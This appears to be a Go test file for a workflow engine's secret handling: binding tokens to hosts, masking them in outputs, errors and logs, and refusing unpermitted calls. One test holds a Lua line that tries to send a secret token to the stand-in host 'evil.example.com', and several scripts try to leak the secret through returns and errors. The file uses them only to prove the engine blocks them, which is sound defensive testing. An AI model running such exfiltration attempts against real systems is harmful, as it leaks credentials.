package engine_test

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/pdflow/pdflow/engine"
	"github.com/pdflow/pdflow/engine/action"
	"github.com/pdflow/pdflow/engine/redact"
	"github.com/pdflow/pdflow/engine/run"
)

const secretText = "sw0rdf1sh"

type postInput struct {
	Host    string            `json:"host" required:"true" doc:"Where to."`
	Token   action.Credential `json:"token" doc:"The key."`
	Note    string            `json:"note" doc:"Any text."`
	Payload action.Object     `json:"payload" secrets:"true" doc:"May hold secrets."`
}

func (in *postInput) targets() ([]action.Target, error) {
	return []action.Target{{Scheme: "https", Host: in.Host, Port: 443}}, nil
}

type postOutput struct {
	Echo string `json:"echo" doc:"What the service sends back."`
}

// poster returns a harness with the action demo.post, which sends the text of its token to a
// service. The service returns what it got.
func poster(sent *[]string) *harness {
	h := newHarness(posting("demo.post", action.Reads, sent))
	h.secrets = map[string]string{"TOKEN": secretText}
	return h
}

func posting(name string, effect action.Effect, sent *[]string) *action.Action {
	return action.New(action.Spec{Name: name, Summary: "Post.", Effect: effect},
		func(ctx context.Context, in postInput) (postOutput, error) {
			text, err := in.Token.Reveal(ctx, action.Destination(in.Host))
			if err != nil {
				return postOutput{}, err
			}
			*sent = append(*sent, text)
			if in.Note == "fail" {
				return postOutput{}, errors.New("401 for Bearer " + text)
			}
			if in.Note == "log" {
				action.ScopeOf(ctx).Log(action.LogRecord{Level: "info", Message: "used " + text, Fields: action.Object{"token": text}})
			}
			return postOutput{Echo: "you sent " + text}, nil
		}, action.Rules[postInput]{Targets: (*postInput).targets})
}

const secretHead = `
secrets: {TOKEN: {hosts: [api.example.com]}}
permissions: {http: ["https://api.example.com", "https://other.example.com"]}
`

// A secret is sent to the hosts that it is bound to. Events have only its name.
func TestSecretIsSentWhereItIsBound(t *testing.T) {
	for name, step := range map[string]string{
		"uses":   "- uses: demo.post\n  with: {host: api.example.com, token: \"${{ secrets.TOKEN }}\"}\n",
		"script": "- lua: |\n    demo.post{host = 'api.example.com', token = secrets.TOKEN}\n",
	} {
		t.Run(name, func(t *testing.T) {
			var sent []string
			h := poster(&sent)
			wantSuccess(t, h.run(t, secretHead+"steps:\n"+step))
			if diff := cmp.Diff([]string{secretText}, sent); diff != "" {
				t.Errorf("sent (-want +got):\n%s", diff)
			}
			want := any(map[string]any{"$secret": "TOKEN"})
			got := h.calls(run.EventCallStarted)[0].Input["token"]
			if secret, ok := got.(action.Secret); !ok || secret.Name != "TOKEN" {
				t.Errorf("got %v recorded, want the reference %v", got, want)
			}
		})
	}
}

// A secret is not sent to another host. The message says how to bind it.
func TestSecretIsRefusedElsewhere(t *testing.T) {
	var sent []string
	h := poster(&sent)
	got := h.run(t, secretHead+"steps:\n- lua: |\n    demo.post{host = 'other.example.com', token = secrets.TOKEN}\n")
	wantFailure(t, got, run.Failed, action.Permission)
	if len(sent) > 0 || !strings.Contains(got.Error.Message, "TOKEN may not go to other.example.com") ||
		!strings.Contains(got.Error.Hint, "api.example.com, other.example.com") {
		t.Errorf("got %+v after sending %v, want the binding in the hint", got.Error, sent)
	}
}

// The text of a secret is in no output, event, error or log line, whatever a script does.
func TestSecretIsMaskedEverywhere(t *testing.T) {
	scripts := map[string]string{
		"the answer holds it":       "return demo.post{host = 'api.example.com', token = secrets.TOKEN}",
		"the error holds it":        "demo.post{host = 'api.example.com', token = secrets.TOKEN, note = 'fail'}",
		"the caught error holds it": "local _, e = pcall(demo.post, {host = 'api.example.com', token = secrets.TOKEN, note = 'fail'}) return {e.message, tostring(e)}",
		"the log holds it":          "demo.post{host = 'api.example.com', token = secrets.TOKEN, note = 'log'}",
		"it is returned":            "return {a = {secrets.TOKEN}}",
		"it is returned whole":      "return secrets",
		"it is raised":              "error(secrets.TOKEN)",
		"it is raised as text":      "error({message = tostring(secrets.TOKEN)})",
		"it is an input":            "return inputs.note",
		"it is a name":              "return {[demo.post{host = 'api.example.com', token = secrets.TOKEN}.echo] = 1}",
	}
	for name, script := range scripts {
		t.Run(name, func(t *testing.T) {
			var sent []string
			h := poster(&sent)
			source := "inputs: {note: {type: string}}\n" + secretHead + "steps:\n- id: s\n  lua: |\n    " + script + "\noutputs: {all: \"${{ steps.s.outputs }}\"}\n"
			got := h.runWith(t, context.Background(), source, action.Object{"note": "it is " + secretText})
			everything := h.text(t) + fmt.Sprintf("%+v %+v %+v", got, got.Error, got.Steps)
			if strings.Contains(everything, secretText) {
				t.Errorf("the secret is in the result or the events: %s", everything)
			}
		})
	}
}

// The text of a secret is masked in the errors that a script catches. Otherwise the script
// could send it anywhere.
func TestSecretIsMaskedInCaughtErrors(t *testing.T) {
	var sent []string
	h := poster(&sent)
	script := "local _, e = pcall(demo.post, {host = 'api.example.com', token = secrets.TOKEN, note = 'fail'})\n    return #e.message"
	got := h.run(t, secretHead+"steps:\n- id: s\n  lua: |\n    "+script+"\noutputs: {n: \"${{ steps.s.outputs }}\"}\n")
	wantSuccess(t, got)
	if want := float64(len("401 for Bearer ‹redacted›")); got.Outputs["n"] != want {
		t.Errorf("got a message of %v bytes, want %v", got.Outputs["n"], want)
	}
}

// The message about a returned secret has its name and its place.
func TestReturnedSecretIsNamed(t *testing.T) {
	var sent []string
	got := poster(&sent).run(t, secretHead+"steps:\n- lua: |\n    return {a = {1, secrets.TOKEN}}\n")
	wantFailure(t, got, run.Failed, action.InvalidInput)
	if want := "outputs.a[2] is ‹secret TOKEN›: a secret cannot be returned"; got.Error.Message != want {
		t.Errorf("got %q, want %q", got.Error.Message, want)
	}
}

// A secret input is sent where it is bound to, and masked everywhere.
func TestSecretInput(t *testing.T) {
	var sent []string
	h := poster(&sent)
	source := `
inputs: {key: {type: string, secret: true, hosts: [api.example.com]}}
permissions: {http: ["https://api.example.com"]}
steps:
- lua: |
    demo.post{host = 'api.example.com', token = inputs.key}
    return tostring(inputs.key)
`
	local, plan := h.compile(t, source)
	got, err := local.Run(context.Background(), plan, engine.Request{Inputs: action.Object{"key": secretText}})
	if err != nil {
		t.Fatal(err)
	}
	wantSuccess(t, got)
	if diff := cmp.Diff([]string{secretText}, sent); diff != "" {
		t.Errorf("sent (-want +got):\n%s", diff)
	}
	if got.Steps[0].Outputs != "‹secret inputs.key›" || strings.Contains(h.text(t), secretText) {
		t.Errorf("got %v and the events %s, want only the name", got.Steps[0].Outputs, h.text(t))
	}
}

// TestA6SecretInputIsKnownFirst: the redactor knows a secret input before its text is checked,
// and the error about it does not quote it.
func TestA6SecretInputIsKnownFirst(t *testing.T) {
	for _, declared := range []string{"format: url", "format: date", "enum: [a, b]", "required: true"} {
		var sent []string
		h := poster(&sent)
		local, plan := h.compile(t, "inputs: {key: {type: string, secret: true, hosts: [api.example.com], "+declared+"}, n: {type: integer}}\nsteps:\n- lua: |\n    return 1\n")
		local.Redactor = &redact.Redactor{}
		_, err := local.Run(context.Background(), plan, engine.Request{Inputs: action.Object{"key": secretText, "n": secretText}})
		if !engine.IsInputError(err) || !strings.Contains(local.Redactor.Redact(err.Error()), `"n" must be a whole number, got string "‹redacted›"`) {
			t.Errorf("%s: got %v, want an input error of which the redactor knows the text", declared, err)
		}
		if strings.Count(err.Error(), secretText) > 1 {
			t.Errorf("%s: the error quotes the secret input: %v", declared, err)
		}
	}
}

// A run without the text of a secret does not start.
func TestMissingSecret(t *testing.T) {
	for name, text := range map[string]string{"absent": "", "too short": "abc"} {
		t.Run(name, func(t *testing.T) {
			var sent []string
			h := poster(&sent)
			if h.secrets = map[string]string{}; text != "" {
				h.secrets["TOKEN"] = text
			}
			local, plan := h.compile(t, secretHead+"steps:\n- lua: |\n    return 1\n")
			_, err := local.Run(context.Background(), plan, engine.Request{})
			if !engine.IsInputError(err) || !strings.Contains(err.Error(), "TOKEN") || len(h.events) > 0 {
				t.Errorf("got %v after %d events, want an input error that names the secret", err, len(h.events))
			}
		})
	}
}

// TestP8Refusals: a call that the workflow does not permit is refused before anything is recorded or sent. The
// refusal of a read ends the attempt, since a script would take it for a fact. The refusal of a write can be
// caught, and the run goes on; but it is not a success, so on_failure runs.
func TestP8Refusals(t *testing.T) {
	const head = `
secrets: {TOKEN: {hosts: ["*.example.com"]}}
permissions: {http: ["https://api.example.com"]}
steps:
- id: s
  continue_on_error: true
  retry: {max_attempts: 3}
  lua: |
    local ok, err = pcall(CALL, {host = 'evil.example.com', token = secrets.TOKEN})
    return {ok = ok, kind = err.kind, action = err.action, hint = err.hint}
- id: later
  lua: |
    return {ran = true}
on_failure:
- id: told
  lua: |
    return {message = failure.message, step = failure.step}
`
	for call, caught := range map[string]any{
		"demo.read": nil,
		"demo.write": action.Object{
			"ok": false, "kind": "permission", "action": "demo.write", "hint": `add it: permissions: {http: ["https://evil.example.com"]}`,
		},
	} {
		var sent []string
		h := newHarness(posting("demo.read", action.Reads, &sent), posting("demo.write", action.Once, &sent))
		h.secrets = map[string]string{"TOKEN": secretText}
		got := h.run(t, strings.Replace(head, "CALL", call, 1))
		wantFailure(t, got, run.Failed, action.Permission)
		if diff := cmp.Diff(caught, got.Steps[0].Outputs); diff != "" || got.Steps[0].Attempts != 1 {
			t.Errorf("%s: what the script caught in %d attempts (-want +got):\n%s", call, got.Steps[0].Attempts, diff)
		}
		if got.Steps[1].Status != run.Success {
			t.Errorf("%s: the later step ended as %s", call, got.Steps[1].Status)
		}
		told := action.Object{"message": "the workflow may not reach https://evil.example.com", "step": "s"}
		if diff := cmp.Diff(any(told), got.Steps[2].Outputs); diff != "" {
			t.Errorf("%s: what on_failure reads (-want +got):\n%s", call, diff)
		}
		if len(sent) > 0 || len(h.calls(run.EventCallStarted)) > 0 {
			t.Errorf("%s: got %v sent and %d calls recorded, want none", call, sent, len(h.calls(run.EventCallStarted)))
		}
	}
}
